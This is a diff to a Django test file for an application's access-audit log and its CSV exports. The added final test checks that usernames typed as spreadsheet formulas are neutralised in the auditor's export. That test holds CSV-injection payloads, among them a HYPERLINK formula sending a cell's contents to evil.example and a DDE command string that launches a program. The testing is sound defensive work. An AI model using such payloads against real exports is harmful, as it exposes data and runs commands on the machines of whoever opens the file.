@@ -4,7 +4,9 @@ Sign-ins and failures, lockouts and unlocks, permission denials and exports are 
 code paths users take; the auditor reads and searches the log and reaches nothing else.
 """
 
+import csv
 import datetime
+import io
 
 import pytest
 from axes.models import AccessAttempt
@@ -16,7 +18,7 @@ from django.test.utils import CaptureQueriesContext
 from django.urls import reverse
 from django.utils import timezone, translation
 
-from alliance import audit
+from alliance import audit, spreadsheets
 from alliance.choices import AccessKind, Role
 from alliance.models import AccessLog
 from tests.conftest import require_postgres
@@ -120,8 +122,8 @@ def test_an_export_is_logged_with_its_filter_and_row_count(world, alliance_offic
     assert export.user == alliance_office
     assert export.detail["format"] == "csv"
     assert export.detail["filters"] == {"year": [str(year)], "table": ["headline"]}
-    # The file: the header, then the rows the log counted.
-    assert export.detail["rows"] == len(rows) - 1 > 0
+    # The file: the title and the header, then the rows the log counted.
+    assert export.detail["rows"] == len(rows) - 2 > 0
 
 
 # --- append-only -------------------------------------------------------------------------------
@@ -196,9 +198,11 @@ def test_the_auditors_export_is_the_search_and_is_itself_logged(log, auditor):
     response = signed_in(auditor).get(AUDIT, {"user": "office", "format": "csv"})
     assert response.status_code == 200
     assert response["Content-Type"] == "text/csv; charset=utf-8"
+    assert response["Content-Disposition"].startswith('attachment; filename="access-log-')
     lines = b"".join(response.streaming_content).decode("utf-8-sig").strip().splitlines()
-    assert lines[0] == "时间,事件,用户,IP 地址,请求方法,地址,患者,详情"
-    assert [line.split(",")[1] for line in lines[1:]] == ["权限拒绝", "导出数据"]
+    assert lines[0].startswith("访问日志 · 用户：office · 导出于 ")
+    assert lines[1] == "时间,事件,用户,IP 地址,请求方法,地址,患者,详情"
+    assert [line.split(",")[1] for line in lines[2:]] == ["权限拒绝", "导出数据"]
     export = AccessLog.objects.filter(user=auditor, kind=AccessKind.EXPORT).get()
     assert export.detail == {
         "table": "access_log", "format": "csv", "filters": {"user": "office"}, "rows": 2,
@@ -283,3 +287,23 @@ def test_the_migration_moves_the_patient_record_accesses_into_the_access_log(tra
         (AccessKind.PATIENT_VIEW, user.pk, "old_viewer", {"channel": "web"}),
         (AccessKind.PATIENT_UPDATE, user.pk, "old_viewer", {"channel": "web", "fields": ["phone"]}),
     ]
+
+
+def test_a_username_typed_as_a_formula_arrives_as_text_in_the_auditors_csv(db, auditor):
+    typed = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    # (a leading tab or carriage return is stripped by the sign-in form: tests/reporting has them)
+    for name in (typed, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)"):
+        log_in(Client(), name, "wrong-password-123")
+    since = timezone.localdate().isoformat()
+    response = signed_in(auditor).get(AUDIT, {"kind": AccessKind.LOGIN_FAILED, "since": since,
+                                              "format": "csv"})  # fmt: skip
+    assert response["Content-Disposition"] == f'attachment; filename="access-log-{since}.csv"'
+    title, header, *rows = csv.reader(
+        io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))
+    )
+    assert title[0].startswith(f"访问日志 · 事件：登录失败 · {since} – … · 导出于 ")
+    assert sorted(row[2] for row in rows) == sorted(
+        ["'" + typed, "'+cmd|' /C calc'!A0", "'-2+3", "'@SUM(1)"]
+    )
+    cells = [cell for row in rows for cell in row]
+    assert not [c for c in cells if c.startswith(spreadsheets.FORMULA_STARTS)]
